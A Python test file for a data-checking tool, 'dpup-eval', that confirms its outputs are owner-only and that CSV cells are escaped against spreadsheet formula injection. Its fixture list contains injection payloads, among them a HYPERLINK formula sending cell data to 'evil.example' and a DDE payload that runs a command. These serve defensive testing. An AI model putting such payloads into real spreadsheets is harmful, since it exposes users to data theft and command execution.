"""What `dpup-eval` writes, through its real entry point: owner-only, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from dpup_eval.agreement.contract import default_contract_dir
from dpup_eval.safe_csv import unescape_cell

CONTRACTS = str(default_contract_dir())
EXE = shutil.which("dpup-eval", path=str(Path(sys.executable).parent)) or "dpup-eval"


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([EXE, *args], capture_output=True, text=True, env=os.environ.copy(), timeout=300,
                          stdin=subprocess.DEVNULL)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3+cmd"]


def test_check_outputs_are_private_and_formula_safe(tmp_path: Path, demo_dir: Path) -> None:
    frame = pd.read_csv(demo_dir / "evaluation.csv", dtype=str, keep_default_na=False)
    parents = frame.index[frame["participant_type"] == "parent"][:8]
    for i, formula in enumerate(FORMULAS):
        frame.loc[parents[i], "feedback"] = formula  # accepted rows
        frame.loc[parents[4 + i], "feedback"] = formula
        frame.loc[parents[4 + i], "sessions_attended"] = "lots"  # quarantined rows
    source = tmp_path / "in.csv"
    frame.to_csv(source, index=False)
    out = {k: tmp_path / "out" / f"{k}.{ext}" for k, ext in
           (("q", "csv"), ("a", "csv"), ("r", "json"), ("h", "html"))}
    done = run("check", str(source), "--contract", CONTRACTS, "--purpose", "evaluation", "--quarantine",
               str(out["q"]), "--accepted", str(out["a"]), "--json", str(out["r"]), "--html", str(out["h"]))
    assert done.returncode == 1, done.stderr
    assert mode(tmp_path / "out") == 0o700
    assert {p.name: mode(p) for p in out.values()} == {p.name: 0o600 for p in out.values()}
    report = json.loads(out["r"].read_text(encoding="utf-8"))
    assert report["rows_quarantined"] == 4
    for path, rows in ((out["a"], parents[:4]), (out["q"], parents[4:])):
        table = cells(path)
        header, body = table[0], table[1:]
        col = header.index("feedback")
        written = {int(r[0]): r[col] for r in body}
        # Row numbers are data-line numbers: the frame's position + 1.
        assert sorted(unescape_cell(written[i + 1]) for i in rows) == sorted(FORMULAS)
        for row in body:
            for cell in row:
                assert cell[:1] not in ("=", "+", "@", "\t", "\r"), cell
                if cell.startswith("-"):
                    float(cell)  # only plain numbers may start with a minus sign


def test_demo_data_folder_and_files_are_private(tmp_path: Path) -> None:
    target = tmp_path / "made" / "demo"
    done = run("demo-data", str(target), "--families", "20", "--messy")
    assert done.returncode == 0, done.stderr
    assert mode(tmp_path / "made") == 0o700 and mode(target) == 0o700
    assert {p.name: mode(p) for p in target.iterdir()} == {
        "evaluation.csv": 0o600, "service_reporting.csv": 0o600, "manifest.json": 0o600}


def test_scan_json_is_private_when_called_as_a_function(tmp_path: Path) -> None:
    """Before: `scan --json` used Path.write_text (0644 under a usual umask outside the `dpup-eval` entry)."""
    import typer

    from dpup_eval.cli.scan import scan

    letter = tmp_path / "letter.txt"
    letter.write_text("Kia ora, nothing to find here.\n", encoding="utf-8")
    old = os.umask(0o022)
    try:
        with pytest.raises(typer.Exit):
            scan(letter, as_text=True, json_out=tmp_path / "out" / "found.json")
    finally:
        os.umask(old)
    assert mode(tmp_path / "out" / "found.json") == 0o600 and mode(tmp_path / "out") == 0o700


@pytest.mark.slow
def test_workshop_files_are_private(tmp_path: Path, demo_dir: Path) -> None:
    """Before: the accepted Parquet, the workshop record and reports were created world-readable (0644)."""
    from dpup_eval.workshop.server import WorkshopConfig, prepare_workshop

    old = os.umask(0o022)  # a usual umask, as a library user in a notebook has it
    try:
        config = WorkshopConfig.resolve(demo_dir / "evaluation.csv", default_contract_dir(), folder=tmp_path / "w",
                                        port=8877)
        prepare_workshop(config, say=lambda message: None)
    finally:
        os.umask(old)
    made = [config.folder, config.accepted_file, config.report_file, Path(config.db), config.pages_dir,
            config.pages_dir / "reports", *config.pages_dir.glob("*.ipynb")]
    modes = {str(p.relative_to(tmp_path)): oct(mode(p)) for p in made}
    assert modes == {name: oct(0o700 if (tmp_path / name).is_dir() else 0o600) for name in modes}
